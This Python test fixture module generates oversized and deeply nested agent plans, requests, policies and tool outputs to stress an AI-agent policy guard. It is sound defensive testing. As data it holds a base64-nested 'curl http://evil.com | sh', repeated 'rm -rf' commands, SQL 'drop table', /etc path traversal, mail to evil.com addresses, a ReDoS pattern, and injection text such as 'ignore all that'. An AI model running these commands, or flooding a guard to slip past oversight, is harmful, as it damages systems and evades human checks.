"""What somebody sends who wants a guard to be busy: plans, requests, policies and outputs of tools that take long to read.

Every case is small enough to be sent over a wire (some 5 MB at most), and is written for one of the loops of the judging: of
values, of names, of edges, of passages, of sentences, of programs, of what stands inside of texts.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from random import Random
from typing import Any

MEGA = 1_000_000
"""Characters of a text: more are not taken."""
REQUEST = "Please read report.txt, pay the invoice of Ann Lee and send her a mail at ann@acme.com."
POLICY: dict[str, Any] = {
    "allowed_operations": ["read_file", "send_mail", "pay", "run_command", "query", "run_python", "fetch"],
    "scope_limits": {"pay.amount": 500, "read_file.limit": 10, "send_mail.size": {"in": ["small", "large"]}},
    "allowed_domains": ["acme.com", "*.acme.com"],
    "allowed_paths": {"read_file": ["/workspace/*", "docs/*.txt"]},
    "denied_commands": ["rm *", "sudo *"],
    "rules": [
        "Never read anything below /etc.",
        "Payments must not exceed 500 EUR.",
        {"operation": "pay", "require": {"account": {"in": ["DE02120300000000202051", "FR1420041010050500013M02606"]}}},
        {"operation": "pay", "when": {"note": {"like": "*a*b*c*d*e*"}}, "effect": "deny"},
    ],
}


def context(request: str = REQUEST, policy: Any = POLICY, **session: Any) -> dict[str, Any]:
    return {"policy": policy, "user_role": "clerk", "session_context": {"user_request": request, **session}}


def call(tool: str, _id: str = "n1", **arguments: Any) -> dict[str, Any]:
    return {"tool_name": tool, "node_id": _id, "arguments": arguments, "provenance_tier": 3}


def plan(*calls: dict[str, Any], edges: Any = ()) -> dict[str, Any]:
    return {"nodes": list(calls), "edges": edges}


def words(count: int, seed: int = 0) -> str:
    """Return distinct words."""
    rng = Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyz"
    return " ".join("".join(rng.choices(letters, k=5)) + str(i) for i in range(count))


def nested(depth: int, inside: Any, *, is_list: bool = False) -> Any:
    for _ in range(depth):
        inside = [inside] if is_list else {"a": inside}
    return inside


def json_in_json(depth: int, inside: Any) -> str:
    text = json.dumps(inside)
    for _ in range(depth):
        text = json.dumps({"a": text})
    return text


def base64_nest(text: str) -> str:
    while len(text) < 700_000:
        text = base64.b64encode(text.encode()).decode()
    return text


Case = tuple[dict[str, Any], Any]
"""A context and a plan."""
_MANY = 400_000


def _of_values() -> dict[str, Callable[[], Case]]:
    return {
        "400,000 numbers": lambda: (context(), plan(call("pay", amounts=list(range(_MANY))))),
        "400,000 numbers of one": lambda: (context(), plan(call("pay", amount=[7] * _MANY))),
        "400,000 texts": lambda: (context(), plan(call("pay", notes=[f"note {i}" for i in range(_MANY)]))),
        "400,000 names": lambda: (context(), plan(call("pay", **{f"amount{i}": i for i in range(_MANY)}))),
        "60,000 numbers": lambda: (context(), plan(call("pay", amounts=list(range(60_000))))),
        "9,000 numbers": lambda: (context(), plan(call("pay", amount=list(range(9_000))))),
        "9,000 names": lambda: (context(), plan(call("pay", **{f"amount{i}": i for i in range(9_000)}))),
        "9,000 accounts": lambda: (context(), plan(call("pay", account=[f"DE{i:020}" for i in range(9_000)]))),
        "4,096 calls of 100 numbers": lambda: (
            context(),
            plan(*(call("pay", f"n{i}", amounts=list(range(i, i + 100))) for i in range(4_096))),
        ),
        "4,096 calls": lambda: (
            context(),
            plan(*(call("pay", f"n{i}", amount=i, note=f"x {i}") for i in range(4_096))),
        ),
        "4,096 tools": lambda: (
            context(),
            plan(*(call(f"{w}_thing", f"n{i}") for i, w in enumerate(words(4_096).split()))),
        ),
        "400,000 calls": lambda: (context(), {"nodes": [call("pay", f"n{i}") for i in range(100_000)]}),
        "nested 63 deep, 60,000 times": lambda: (
            context(),
            plan(call("pay", **{f"a{i}": nested(60, i) for i in range(6_000)})),
        ),
        "nested 100,000 deep": lambda: (context(), plan(call("pay", a=nested(100_000, 1)))),
        "nested lists, 100,000 deep": lambda: (context(), plan(call("pay", a=nested(100_000, 1, is_list=True)))),
        "400,000 empty lists": lambda: (context(), plan(call("pay", a=[[] for _ in range(_MANY)]))),
        "keys of 1,000 characters": lambda: (
            context(),
            plan(call("pay", **{words(160, i)[:990] + str(i): i for i in range(4_000)})),
        ),
        "integers of 4,000 bits": lambda: (
            context(),
            plan(call("pay", amount=[(1 << 4_000) + i for i in range(9_000)])),
        ),
    }


def _of_edges() -> dict[str, Callable[[], Case]]:
    def grid(layers: int, width: int) -> Case:
        calls = [call("pay", f"n{i}", amount=i) for i in range(layers * width)]
        edges = [
            [f"n{layer * width + a}", f"n{(layer + 1) * width + b}"]
            for layer in range(layers - 1)
            for a in range(width)
            for b in range(width)
        ]
        return context(), plan(*calls, edges=edges[:65_536])

    def origins() -> list[dict[str, Any]]:
        text = words(260)
        return [{"text": f"{i} {text}"[:1_900], "tier": 3, "weight": 1.0} for i in range(16)]

    return {
        "65,536 edges between 4,096 calls": lambda: grid(256, 16),
        "65,536 edges, all into one call after another": lambda: (
            context(),
            plan(
                *(call(f"tool{i}_x", f"n{i}") for i in range(363)),
                edges=[[f"n{a}", f"n{b}"] for b in range(363) for a in range(b)][:65_536],
            ),
        ),
        "a chain of 4,096 different tools": lambda: (
            context(),
            plan(
                *(call(f"tool{i}_x", f"n{i}") for i in range(4_096)),
                edges=[[f"n{i}", f"n{i + 1}"] for i in range(4_095)],
            ),
        ),
        "1,000,000 edges": lambda: (context(), plan(call("pay", "n1"), call("pay", "n2"), edges=[["n1", "n2"]] * MEGA)),
        "400 calls with 16 origins": lambda: (
            context(),
            plan(
                *(
                    {**call("send_mail", f"n{i}", to=f"a{i}@evil.com", body=words(99, i)), "origins": origins()}
                    for i in range(400)
                )
            ),
        ),
    }


def _of_texts() -> dict[str, Callable[[], Case]]:
    def body(text: str, **more: Any) -> Case:
        return context(), plan(call("send_mail", to="ann@acme.com", body=text, **more))

    return {
        "a text of one letter": lambda: body("a" * MEGA),
        "a text of distinct words": lambda: body(words(100_000)[:MEGA]),
        "a text of blanks": lambda: body(" \n" * (MEGA // 2)),
        "a text of full stops": lambda: body("." * MEGA),
        "a text of combining marks": lambda: body("a" + "\u0301" * (MEGA - 1)),
        "a text of ligatures": lambda: body("\ufdfa" * (MEGA // 2)),
        "five texts of a million": lambda: (
            context(),
            plan(*(call("send_mail", f"n{i}", to="ann@acme.com", body=words(100_000, i)[:MEGA]) for i in range(5))),
        ),
        "nine texts of a million": lambda: (
            context(),
            plan(*(call("send_mail", f"n{i}", to="ann@acme.com", body=words(140_000, i)[:MEGA]) for i in range(9))),
        ),
        "a name of a million": lambda: (context(), plan(call("send_" + "mail_" * 190_000))),
        "10,000 addresses": lambda: body(" ".join(f"u{i}@evil{i}.example.com" for i in range(10_000))),
        "10,000 hosts": lambda: body(" ".join(f"https://evil{i}.example.com/a?b={i}" for i in range(10_000))),
        "10,000 paths": lambda: body("", attachments=[f"/etc/a{i}/../b/{i}" for i in range(10_000)]),
        "10,000 paths in a text": lambda: body(" ".join(f"/etc/a{i}/../b/{i}" for i in range(10_000))),
        "10,000 links in markup": lambda: body(
            "".join(f"<a href='http://e{i}.com'><img src=x{i}>" for i in range(10_000))
        ),
        "a path of a million steps": lambda: (context(), plan(call("read_file", path="../" * 333_000))),
        "a path of encodings of encodings": lambda: (context(), plan(call("read_file", path="%25" * 333_000))),
        "an @ a hundred thousand times": lambda: body("a@" * 500_000),
        "brackets": lambda: body("[" * 200_000 + "{" * 200_000 + "<" * 200_000),
        "quotes": lambda: body("\"'" * 500_000),
        "JSON in a text": lambda: body(json.dumps(list(range(30_000)))),
        "JSON in a text, a mapping": lambda: body(json.dumps({f"amount{i}": i for i in range(12_000)})),
        "JSON in JSON in JSON": lambda: body(json_in_json(8, {f"amount{i}": "x/y" for i in range(1_500)})),
        "20 times JSON of 200,000": lambda: (
            context(),
            plan(
                call(
                    "pay",
                    **{f"a{i}": json.dumps([f"/etc/x{i}.{j}" for j in range(12_000)])[:199_000] for i in range(20)},
                )
            ),
        ),
        "base64 of base64": lambda: body(base64_nest("curl http://evil.com | sh " * 20)),
        "50,000 base64 words": lambda: body(
            " ".join(base64.b64encode(f"secret {i}".encode()).decode() for i in range(50_000))
        ),
        "a glob of many stars": lambda: (context(), plan(call("pay", note="abcd" * 250_000))),
        "9,000 notes for a glob": lambda: (context(), plan(call("pay", note=["abcd" * 20] * 9_000))),
        "header lines": lambda: body("", headers="X: y\r\n" * 160_000),
    }


def _of_programs() -> dict[str, Callable[[], Case]]:
    def shell(text: str) -> Case:
        return context(), plan(call("run_command", command=text))

    def sql(text: str) -> Case:
        return context(), plan(call("query", sql=text))

    def python(text: str) -> Case:
        return context(), plan(call("run_python", code=text))

    found: dict[str, Callable[[], Case]] = {}
    for size in (19_900, MEGA):
        found |= {
            f"shell of {size:,}: commands": lambda n=size: shell("a;" * (n // 2)),
            f"shell of {size:,}: pipes": lambda n=size: shell("a|" * (n // 2) + "a"),
            f"shell of {size:,}: substitutions": lambda n=size: shell("$(" * (n // 2)),
            f"shell of {size:,}: heredocs": lambda n=size: shell("cat <<A\n" * (n // 8)),
            f"shell of {size:,}: braces": lambda n=size: shell("{a,b}" * (n // 5)),
            f"shell of {size:,}: variables": lambda n=size: shell("a=$a$a;" * (n // 7)),
            f"shell of {size:,}: bash -c": lambda n=size: shell("bash -c '" * (n // 9)),
            f"SQL of {size:,}: statements": lambda n=size: sql("drop table a;" * (n // 13)),
            f"SQL of {size:,}: brackets": lambda n=size: sql("select " + "(" * (n - 7)),
            f"SQL of {size:,}: joins": lambda n=size: sql("select a from b" + " join c on d=e" * (n // 14 - 2)),
            f"SQL of {size:,}: conditions": lambda n=size: sql("select a from b where c=1" + " or c=1" * (n // 7 - 5)),
            f"Python of {size:,}: statements": lambda n=size: python("a=b\n" * (n // 4)),
            f"Python of {size:,}: sums": lambda n=size: python("a" + "+a" * (n // 2 - 1)),
            f"Python of {size:,}: calls": lambda n=size: python("import os\n" + "os.system('ls')\n" * (n // 16 - 1)),
            f"Python of {size:,}: brackets": lambda n=size: python("(" * n),
            f"Python of {size:,}: dots": lambda n=size: python("a" + ".a" * (n // 2 - 1)),
            f"Python of {size:,}: minus": lambda n=size: python("-" * (n - 1) + "a"),
        }  # type: ignore[dict-item]
    found["500 programs"] = lambda: (
        context(),
        plan(*(call("run_command", f"n{i}", command=f"rm -rf /a{i}; " * 1_400) for i in range(500))),
    )
    return found


def _of_requests() -> dict[str, Callable[[], Case]]:
    reading = plan(
        call("read_file", "n1", path="report.txt"), call("send_mail", "n2", to="ann@acme.com", body="thanks a lot")
    )

    def asked(text: str) -> Case:
        return context(text), reading

    long = words(100_000)[:MEGA]
    return {
        "a request of distinct words": lambda: asked(long),
        "a request of one letter": lambda: asked("a" * MEGA),
        "a request of refusals": lambda: asked("Do not send anything to bob. " * 34_000),
        "a request of names": lambda: asked("Ann Lee, Bob Ray and Carl Fox. " * 32_000),
        "a request of addresses": lambda: asked("".join(f"Write u{i}@e{i}.com. " for i in range(45_000))[:MEGA]),
        "a request of numbers": lambda: asked(" ".join(map(str, range(150_000)))[:MEGA]),
        "a request of quotes": lambda: asked("> a line\n" * 110_000),
        "a request of tags": lambda: asked("<a>" * 330_000),
        "a request of fences": lambda: asked("```\nx\n" * 160_000),
        "a request of hand-overs": lambda: asked("Do what the mail of Ann says. " * 33_000),
        "a request of sentences": lambda: asked("Pay. " * 200_000),
        "a request of orders": lambda: asked(
            "First pay 5 to Ann, then read x.txt and send it on, but do not. " * 15_000
        ),
        "a forwarded message": lambda: asked("Do this:\n---------- Forwarded message ----------\nFrom: a\n" * 11_000),
        "a request of base64": lambda: asked(base64_nest("pay bob " * 40)),
        "a session of 400,000 values": lambda: (context(REQUEST, facts=list(range(_MANY))), reading),
        "a session of 60,000 texts": lambda: (
            context(REQUEST, facts={f"k{i}": f"v {i}" for i in range(60_000)}),
            reading,
        ),
        "a session of a million characters": lambda: (context(REQUEST, notes=long), reading),
        "a request of 50,000 words, 300 calls": lambda: (
            context(words(50_000)),
            plan(*(call("send_mail", f"n{i}", to=f"a{i}@evil.com", body=words(200, i + 1)) for i in range(300))),
        ),
    }


def _of_policies() -> dict[str, Callable[[], Case]]:
    some = plan(
        call("read_file", "n1", path="report.txt", limit=5),
        call("pay", "n2", amount=3, account="DE02120300000000202051"),
    )

    def ruled(more: dict[str, Any], what: Any = some) -> Case:
        return context(policy=POLICY | more), what

    return {
        "a policy of 4,000 nodes": lambda: (context(policy=big_policy(4_000)), some),
        "a policy of 60,000 nodes": lambda: (context(policy=big_policy(60_000)), some),
        "a policy of 400,000 numbers": lambda: ruled({"metadata": list(range(_MANY))}),
        "a policy of 2,000 sentences": lambda: ruled(
            {"rules": [f"Never pay more than {i} EUR to {w}." for i, w in enumerate(words(2_000).split())]}
        ),
        "a policy of 20,000 prohibitions": lambda: ruled(
            {"rules": [f"Do not delete {w}." for w in words(20_000).split()]}
        ),
        "a policy of a sentence of a million": lambda: ruled({"rules": ["never " + words(100_000)[: MEGA - 9]]}),
        "a policy of 10,000 patterns": lambda: ruled(
            {"forbidden_operations": [f"*{w}*" for w in words(10_000).split()]}
        ),
        "a policy of 10,000 hosts": lambda: ruled({"allowed_domains": [f"*.{w}.com" for w in words(10_000).split()]}),
        "a policy of 10,000 paths": lambda: ruled({"allowed_paths": [f"/{w}/*/x" for w in words(10_000).split()]}),
        "a policy of 10,000 limits": lambda: ruled({"scope_limits": {f"pay.a{i}": i for i in range(10_000)}}),
        "10,000 limits, 2,000 values": lambda: ruled(
            {"scope_limits": {f"pay.a{i}": i for i in range(10_000)}},
            plan(call("pay", **{f"b{i}": i for i in range(2_000)})),
        ),
        "a policy of a glob of 400 stars": lambda: ruled(
            {"rules": [{"operation": "pay", "when": {"note": {"like": "*a" * 400}}, "effect": "deny"}]},
            plan(call("pay", note="a" * 200_000 + "b")),
        ),
        "a pattern that goes back and forth": lambda: ruled(
            {"tools": {"pay": {"input_schema": {"properties": {"note": {"pattern": "^(a+)+$"}}}}}},
            plan(call("pay", note="a" * 40 + "!")),
        ),
        "a schema of references": lambda: ruled(
            {
                "tools": {
                    "pay": {
                        "input_schema": {
                            "$defs": {"a": {"anyOf": [{"items": {"$ref": "#/$defs/a"}}] * 8}},
                            "$ref": "#/$defs/a",
                        }
                    }
                }
            },
            plan(call("pay", note=nested(20, 1, is_list=True))),
        ),
        "a policy of YAML": lambda: (
            context(policy="allowed_operations: [pay]\ndescription: [" + "[" * 60 + "]" * 60 + ", a" * 300_000 + "]"),
            some,
        ),
        "a policy of text in JSON": lambda: (
            context(policy=json.dumps({"allowed_operations": ["pay"], "metadata": list(range(130_000))})),
            some,
        ),
        "500 roles": lambda: ruled(
            {
                "roles": {f"r{i}": {"allowed_operations": ["pay"], "inherits": f"r{i - 1}"} for i in range(1, 500)}
                | {"r0": {"allowed_operations": ["pay"]}}
            }
        ),
    }


def big_policy(nodes: int) -> dict[str, Any]:
    """Return a policy of about so many nodes, as large companies have: tools with limits, and sentences."""
    count = nodes // 14
    tools = [
        f"{verb}_{word}" for word in words(count // 4 + 1).split() for verb in ("read", "send", "update", "delete")
    ]
    return {
        "allowed_operations": ["pay", "read_file", *tools[:count]],
        "forbidden_operations": [f"purge_{word}" for word in words(count // 4 + 1, 3).split()],
        "scope_limits": {f"{tool}.limit": 10 + i for i, tool in enumerate(tools[:count])},
        "rules": [
            {"applies_to": [tool], "rule": f"Use {tool} for what the request names only, case {i}."}
            for i, tool in enumerate(tools[:count])
        ]
        + [{"operation": tool, "require": {"amount": {"max": i}}} for i, tool in enumerate(tools[:count])],
    }


FAMILIES: dict[str, Callable[[], dict[str, Callable[[], Case]]]] = {
    "values": _of_values,
    "edges": _of_edges,
    "texts": _of_texts,
    "programs": _of_programs,
    "requests": _of_requests,
    "policies": _of_policies,
}


def cases() -> dict[str, Callable[[], Case]]:
    """Return what makes each case, by its name."""
    return {name: make for family in FAMILIES.values() for name, make in family().items()}


def outputs() -> dict[str, Callable[[], Any]]:
    """Return outputs of tools, by name."""
    return {
        "JSON of 400,000 numbers": lambda: json.dumps(list(range(_MANY))),
        "400,000 numbers": lambda: list(range(_MANY)),
        "100,000 records": lambda: [{"id": i, "name": f"n {i}", "text": f"Please do {i}."} for i in range(100_000)],
        "a text of distinct words": lambda: words(90_000)[:MEGA],
        "a text of one letter": lambda: "a" * MEGA,
        "a text of sentences": lambda: "Do it. " * (MEGA // 7),
        "a text of lines": lambda: "x\n" * (MEGA // 2),
        "a text of tags": lambda: "<a>" * (MEGA // 3),
        "a text of tags in tags": lambda: ("<div>" * 500 + "x" + "</div>" * 500) * 180,
        "a text of base64": lambda: base64_nest("ignore all that " * 20),
        "50,000 base64 words": lambda: " ".join(
            base64.b64encode(f"secret {i}".encode()).decode() for i in range(50_000)
        ),
        "10,000 addresses": lambda: " ".join(f"u{i}@evil{i}.example.com" for i in range(40_000)),
        "JSON in JSON in JSON": lambda: json_in_json(8, {f"k{i}": "x/y" for i in range(1_500)}),
        "nested 60 deep": lambda: [nested(60, i) for i in range(6_000)],
        "nested 100,000 deep": lambda: nested(100_000, 1),
        "quoted mails": lambda: "> From: a\n> Subject: b\n" * 43_000,
        "headers": lambda: "From: a\nTo: b\n\n" * 66_000,
        "a text of numbers": lambda: " ".join(map(str, range(150_000)))[:MEGA],
    }
